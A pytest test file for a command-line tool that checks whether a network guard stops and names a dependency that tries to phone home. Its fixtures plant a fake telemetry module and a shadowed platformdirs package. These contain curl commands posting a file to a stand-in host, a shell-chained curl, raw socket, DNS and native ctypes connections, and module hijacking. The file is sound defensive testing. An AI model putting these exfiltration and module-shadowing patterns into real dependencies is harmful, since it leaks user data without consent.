"""A dependency that phones home is stopped and named, whatever command is running and however it tries."""

from __future__ import annotations

import importlib
import os
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from types import ModuleType

import click
import platformdirs
import pytest

from idc_local.cli import cli
from idc_local.cli.session import Command
from idc_local.errors import UsageError
from tests.clikit import FakeRuntime, invoke
from tests.golden.cases import commands

ROOT = Path(__file__).resolve().parents[2]
MAY_USE_THE_NETWORK = {("models", "pull"), ("models", "bundle")}
TALK_TO_THIS_MACHINE: set[tuple[str, ...]] = set()
"""Commands that the kernel does not shut in."""

DEPENDENCY = """
import os
import socket
import subprocess

def by_socket():
    with socket.socket() as sock:
        sock.settimeout(5)
        sock.connect(("192.0.2.1", 443))

def by_datagram():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"text", ("192.0.2.1", 53))

def by_name():
    socket.getaddrinfo("telemetry.example", 443)

def by_curl():
    subprocess.run(["curl", "-d", "@letter.txt", "https://telemetry.example"], timeout=5)

def by_shell():
    os.system("true; curl https://telemetry.example")
"""
WAYS = ("by_socket", "by_datagram", "by_name", "by_curl", "by_shell")


def leaves() -> dict[tuple[str, ...], click.Command]:
    found: dict[tuple[str, ...], click.Command] = {}
    context = click.Context(cli)
    for names in commands(cli, context):
        command: click.Command | None = cli
        for name in names:
            assert isinstance(command, click.Group)
            command = command.get_command(context, name)
        if command is not None and not isinstance(command, click.Group):
            found[names] = command
    return found


LEAVES = leaves()
GUARDED = sorted(set(LEAVES) - MAY_USE_THE_NETWORK)


def required(command: click.Command) -> list[str]:
    """The least that must be typed after the command."""
    words = []
    for parameter in command.params:
        if parameter.required:
            value = parameter.type.choices[0] if isinstance(parameter.type, click.Choice) else "1"
            words += [value] if isinstance(parameter, click.Argument) else [parameter.opts[-1], value]
    return words


@pytest.fixture
def dependency(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[ModuleType]:
    """A module, planted where libraries are, whose functions each try one way out."""
    (tmp_path / "telemetry.py").write_text(DEPENDENCY)
    monkeypatch.syspath_prepend(tmp_path)
    monkeypatch.chdir(tmp_path)
    yield importlib.import_module("telemetry")
    del sys.modules["telemetry"]


def test_which_commands_may_use_the_network() -> None:
    own = {names: command for names, command in LEAVES.items() if isinstance(command, Command)}
    assert set(own) == set(LEAVES), "every command runs under the guard"
    assert {names for names, command in own.items() if command._network} == MAY_USE_THE_NETWORK
    assert {names for names, command in own.items() if command._loopback} == TALK_TO_THIS_MACHINE


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("names", GUARDED, ids=" ".join)
def test_every_command_stops_it_and_names_it(
    names: tuple[str, ...], way: str, dependency: ModuleType, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(platformdirs, "user_config_path", lambda *words, **options: getattr(dependency, way)())
    monkeypatch.setenv("IDC_ALLOW_NETWORK", "1")
    arguments = (*names, *required(LEAVES[names]))
    result = invoke(*arguments, environ={"IDC_ALLOW_NETWORK": "1", "NO_PROXY": "*"})
    assert result.exit_code == 4
    (line,) = result.stderr.splitlines()
    assert line.startswith("error: network use refused: ")
    assert "by telemetry (telemetry.py:" in line


@pytest.mark.parametrize("names", GUARDED, ids=" ".join)
def test_one_that_hides_the_refusal_is_named_all_the_same(
    names: tuple[str, ...], dependency: ModuleType, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    def quietly(*words: object, **options: object) -> Path:
        for way in WAYS:
            try:
                getattr(dependency, way)()
            except Exception:
                continue
        return tmp_path

    monkeypatch.setattr(platformdirs, "user_config_path", quietly)
    runtime = FakeRuntime(error=UsageError("that is enough"))
    result = invoke(*names, *required(LEAVES[names]), "-q", runtime=runtime)
    (warning,) = [line for line in result.stderr.splitlines() if line.startswith("warning: network use refused: ")]
    named = [part for part in warning.split("; ") if "by telemetry (telemetry.py:" in part]
    assert len(named) == len(WAYS)
    for what in ("connect to 192.0.2.1:443", "sendto to 192.0.2.1:53", "look-up of telemetry.example", "start of curl"):
        assert what in warning


@pytest.mark.parametrize("names", sorted(LEAVES), ids=" ".join)
def test_allowing_it_says_so_whatever_else_is_asked(names: tuple[str, ...]) -> None:
    runtime = FakeRuntime(error=UsageError("that is enough"))
    result = invoke(*names, *required(LEAVES[names]), "--allow-network", "-q", runtime=runtime)
    assert result.stderr.startswith("network: allowed by --allow-network; connections are counted, none is refused\n")


PLANTED = (
    DEPENDENCY
    + '''
import ctypes, importlib, sys
PORT = int(os.environ["LISTENER"])

def quietly(way):
    try:
        return way()
    except Exception as error:
        return error

for way in (by_socket, by_datagram, by_name, by_curl, by_shell):
    quietly(way)

def user_config_path(*words, **options):
    """Past Python: a program under another name, and the C library."""
    call = f"import socket; socket.create_connection(('127.0.0.1', {PORT}))"
    child = quietly(lambda: subprocess.run([sys.executable, "-c", call], capture_output=True, text=True))
    libc = ctypes.CDLL(None, use_errno=True)
    native = libc.socket(2, 1, 0)
    if native >= 0:
        address = (2).to_bytes(2, sys.byteorder) + PORT.to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
        libc.connect(native, address, 16)
    print("child", child.returncode, child.stderr.splitlines()[-1], "native", native, ctypes.get_errno())
    return REAL.user_config_path(*words, **options)

sys.path.remove(os.path.dirname(os.path.dirname(__file__)))
del sys.modules["platformdirs"]
REAL = importlib.import_module("platformdirs")
sys.modules["platformdirs"] = sys.modules["planted"] = type(sys)("platformdirs")
vars(sys.modules["platformdirs"]).update(vars(REAL), user_config_path=user_config_path)
'''
)


def test_at_import_in_programs_and_in_native_code(tmp_path: Path) -> None:
    package = tmp_path / "platformdirs"
    package.mkdir()
    (package / "__init__.py").write_text(PLANTED)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        environ = os.environ | {"LISTENER": str(listener.getsockname()[1]), "IDC_INDEX": str(tmp_path / "none")}
        environ["PYTHONPATH"] = f"{tmp_path}{os.pathsep}{ROOT}"
        command = [sys.executable, "-m", "idc_local", "status", "-v"]
        done = subprocess.run(command, env=environ, capture_output=True, text=True, check=False, timeout=60)
        with pytest.raises(BlockingIOError):
            listener.accept()
    assert done.stdout == "child 1 PermissionError: [Errno 1] Operation not permitted native -1 1\n"
    (summary,) = [line for line in done.stderr.splitlines() if line.startswith("network: ")]
    assert summary.startswith("network: 0 connections, none possible for this process and what it starts, 5 refused (")
    assert summary.count(" by platformdirs (__init__.py:") == 6, "the program that was started is named too"
    assert "start of curl" in summary
    assert "look-up of telemetry.example" in summary
